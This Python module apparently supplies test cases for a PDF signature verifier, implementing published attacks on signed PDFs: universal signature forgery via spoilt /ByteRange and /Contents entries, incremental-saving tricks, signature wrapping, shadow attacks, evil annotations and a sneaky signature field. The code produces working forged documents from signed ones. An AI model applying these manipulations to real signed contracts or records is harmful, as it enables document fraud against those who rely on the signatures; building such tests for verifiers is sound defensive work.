"""The published attacks on signed PDFs, built on our own sheets.

Universal forgery, incremental saving and signature wrapping: Mladenov et al., “1 Trillion Dollar
Refund” (CCS 2019). Shadow attacks: Mainka et al. (NDSS 2021). Evil annotation and sneaky signature:
Rohlmann et al., “Breaking the Specification” (S&P 2021). Rollback: an older revision as the whole.
Each takes a signed sheet and gives what an attacker would send instead.
"""

# pyHanko's writer has no types.
# mypy: disable-error-code="no-untyped-call"

import re
from collections.abc import Callable
from io import BytesIO

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

EVIL = b"0.9 g 60 60 480 700 re f"
NAME, NUMBER = generic.NameObject, generic.NumberObject
Attack = Callable[[bytes], bytes]


def revised(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """Add a revision that changes something."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    change(writer)
    stream = BytesIO()
    writer.write(stream)
    return stream.getvalue()


def _span(pdf: bytes) -> tuple[int, int, int]:
    """Give where the hole of the last signature begins and ends, and how much is signed behind."""
    found = list(re.finditer(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]", pdf))[-1]
    before, after, rest = (int(part) for part in found.groups())
    return before, after, rest


# --- universal signature forgery: the signature's own entries are spoilt


def _with_range(pdf: bytes, text: bytes) -> bytes:
    """Write another /ByteRange over the last one, without moving a byte."""
    found = list(re.finditer(rb"/ByteRange \[[^\]]*\] *", pdf))[-1]
    return pdf[: found.start()] + text.ljust(len(found[0])) + pdf[found.end() :]


def _with_contents(pdf: bytes, text: bytes) -> bytes:
    """Write something else over the signature itself."""
    before, after, _ = _span(pdf)
    return pdf[:before] + text.ljust(after - before) + pdf[after:]


FORGERIES: dict[str, Attack] = {
    "no range": lambda pdf: _with_range(pdf, b""),
    "null range": lambda pdf: _with_range(pdf, b"/ByteRange null"),
    "empty range": lambda pdf: _with_range(pdf, b"/ByteRange []"),
    "range of nothing": lambda pdf: _with_range(pdf, b"/ByteRange [0 0 0 0]"),
    "negative range": lambda pdf: _with_range(pdf, b"/ByteRange [0 -1 -1 -1]"),
    "range of words": lambda pdf: _with_range(pdf, b"/ByteRange [/a /b /c /d]"),
    "range of two": lambda pdf: _with_range(pdf, b"/ByteRange [0 %d]" % len(pdf)),
    "range past the end": lambda pdf: _with_range(pdf, b"/ByteRange [0 10 20 %d]" % 10**9),
    "no contents": lambda pdf: _with_contents(pdf, b""),
    "null contents": lambda pdf: _with_contents(pdf, b"null"),
    "empty contents": lambda pdf: _with_contents(pdf, b"<>"),
    "zero contents": lambda pdf: _with_contents(pdf, b"<00>"),
    "contents of words": lambda pdf: _with_contents(pdf, b"(signed)"),
}


# --- incremental saving: something is added behind, more or less as a revision


def _object(pdf: bytes) -> tuple[int, bytes]:
    """Give the number of the first page's content and an evil object in its place."""
    with pikepdf.open(BytesIO(pdf)) as opened:
        number = opened.pages[0].obj.Contents.objgen[0]
    stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(EVIL), EVIL)
    return number, b"%d 0 obj\n%s\nendobj\n" % (number, stream)


def _table(pdf: bytes, number: int, place: int) -> bytes:
    """Write a cross-reference section for one object, on top of the one before."""
    last = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    trailer = re.findall(rb"trailer\s*<<(.*?)>>\s*startxref", pdf, re.DOTALL)[-1]
    entries = re.sub(rb"/Prev \d+", b"", trailer)
    return b"xref\n%d 1\n%010d 00000 n \ntrailer\n<<%s/Prev %d>>\n" % (number, place, entries, last)


def _saved(pdf: bytes) -> bytes:
    """Redefine the page's content in a proper revision."""
    number, body = _object(pdf)
    place = len(pdf) + len(body)
    end = b"startxref\n%d\n%%%%EOF\n" % place
    return pdf + body + _table(pdf, number, len(pdf)) + end


def _saved_without_table(pdf: bytes) -> bytes:
    return pdf + _object(pdf)[1]


def _saved_without_end(pdf: bytes) -> bytes:
    return _saved(pdf).removesuffix(b"%%EOF\n")


def _saved_with_old_signature(pdf: bytes) -> bytes:
    """Save, and put the signature's object once more behind it, as if it covered all."""
    start = pdf.rindex(b" 0 obj", 0, _span(pdf)[0]) - 2
    return _saved_without_table(pdf) + pdf[start : pdf.index(b"endobj", start)] + b"endobj\n%%EOF\n"


SAVINGS: dict[str, Attack] = {
    "a revision": _saved,
    "no table": _saved_without_table,
    "no end": _saved_without_end,
    "the signature again": _saved_with_old_signature,
}


# --- signature wrapping: the second signed stretch is moved away to make room


def wrapped(pdf: bytes) -> bytes:
    """Move the second stretch behind an own end of the signature, own objects and an own table.

    What is signed stays byte for byte, so the digest holds; the table that readers find is ours.
    """
    before, after, rest = _span(pdf)
    place = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    number, body = _object(pdf)
    length = place - after + 4096
    tail = b"\n/ByteRange [0 %d %d %d]\n" % (before, after + length, rest)
    tail += b"/Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached >>\nendobj\n"
    evil = after + len(tail)
    gap = (tail + body).ljust(place - after) + _moved(pdf, after, length, {number: evil})
    return pdf[:after] + gap.ljust(length) + pdf[after:]


def _moved(pdf: bytes, after: int, by: int, own: dict[int, int]) -> bytes:
    """Write the last table once more with what lies behind `after` moved, and own objects."""
    section = pdf[int(re.findall(rb"startxref\s+(\d+)", pdf)[-1]) :]
    table, trailer = section.split(b"trailer", 1)
    places, lines = dict(own), iter(table.splitlines()[1:])
    for line in lines:
        first, count = map(int, line.split())
        for number in range(first, first + count):
            place, _, kind = next(lines).split()
            if kind == b"n":
                places.setdefault(number, int(place) + (by if int(place) > after else 0))
    entries = b"".join(b"%d 1\n%010d 00000 n \n" % (n, places[n]) for n in sorted(places))
    return b"xref\n0 1\n0000000000 65535 f \n" + entries + b"trailer" + trailer


# --- shadow attacks: hidden content prepared before it is signed, shown afterwards


def prepared(unsigned: bytes) -> bytes:
    """Hide another content of the first page in the sheet before anybody signs it."""

    def hide(writer: IncrementalPdfFileWriter) -> None:
        writer.add_object(generic.StreamObject(stream_data=EVIL))

    return revised(unsigned, hide)


def _shows(pdf: bytes, content: Callable[[IncrementalPdfFileWriter], object]) -> bytes:
    def show(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        page["/Contents"] = content(writer)
        writer.update_container(page)

    return revised(pdf, show)


def shown(pdf: bytes) -> bytes:
    """Show the content that was hidden."""
    stream = generic.StreamObject(stream_data=EVIL)
    return _shows(pdf, lambda writer: writer.add_object(stream))


def replaced(pdf: bytes) -> bytes:
    """Replace a font that the page uses: the same signs then look like others."""

    def swap(writer: IncrementalPdfFileWriter) -> None:
        fonts = writer.root["/Pages"]["/Kids"][0]["/Resources"]["/Font"]
        names = list(fonts)
        first, last = fonts.raw_get(names[0]), fonts.raw_get(names[-1])
        fonts[names[0]], fonts[names[-1]] = last, first
        writer.update_container(fonts)

    return revised(pdf, swap)


def overlaid(pdf: bytes) -> bytes:
    """Lay the picture of another signature over the document."""

    def lay(writer: IncrementalPdfFileWriter) -> None:
        field = writer.root["/AcroForm"]["/Fields"][0]
        field["/Rect"] = generic.ArrayObject(NUMBER(n) for n in (0, 0, 595, 842))
        writer.update_container(field)

    return revised(pdf, lay)


# --- attacks on certified documents: what MDP would allow


def _annotated(pdf: bytes, entries: dict[str, generic.PdfObject]) -> bytes:
    def add(writer: IncrementalPdfFileWriter) -> None:
        rect = generic.ArrayObject(NUMBER(n) for n in (50, 50, 550, 800))
        look = generic.StreamObject(
            {NAME("/Type"): NAME("/XObject"), NAME("/Subtype"): NAME("/Form"), NAME("/BBox"): rect},
            stream_data=EVIL,
        )
        appearance = generic.DictionaryObject({NAME("/N"): writer.add_object(look)})
        own = {NAME("/Type"): NAME("/Annot"), NAME("/Rect"): rect, NAME("/AP"): appearance}
        note = writer.add_object(
            generic.DictionaryObject({**own, **{NAME(key): one for key, one in entries.items()}})
        )
        page = writer.root["/Pages"]["/Kids"][0]
        page["/Annots"] = generic.ArrayObject([note])
        writer.update_container(page)
        if "/FT" in entries:
            form = writer.root["/AcroForm"]
            form["/Fields"].append(note)
            writer.update_container(form)

    return revised(pdf, add)


def evil_annotation(kind: str) -> Attack:
    """Lay an annotation over the page."""
    return lambda pdf: _annotated(pdf, {"/Subtype": NAME(f"/{kind}")})


def sneaky_signature(pdf: bytes) -> bytes:
    """Add an unsigned signature field whose appearance covers the page."""
    title = generic.TextStringObject("approved")
    entries: dict[str, generic.PdfObject] = {"/T": title, "/F": NUMBER(132)}
    return _annotated(pdf, {"/Subtype": NAME("/Widget"), "/FT": NAME("/Sig"), **entries})


LATER: dict[str, Attack] = {
    **{f"forgery: {name}": attack for name, attack in FORGERIES.items()},
    **{f"saving: {name}": attack for name, attack in SAVINGS.items()},
    "wrapping": wrapped,
    "shadow: shown": shown,
    "shadow: replaced": replaced,
    "shadow: overlaid": overlaid,
    **{
        f"annotation: {kind}": evil_annotation(kind)
        for kind in ("FreeText", "Stamp", "Redact", "Square", "Widget", "Popup")
    },
    "sneaky signature": sneaky_signature,
}
"""Attacks on a signed sheet by their names."""
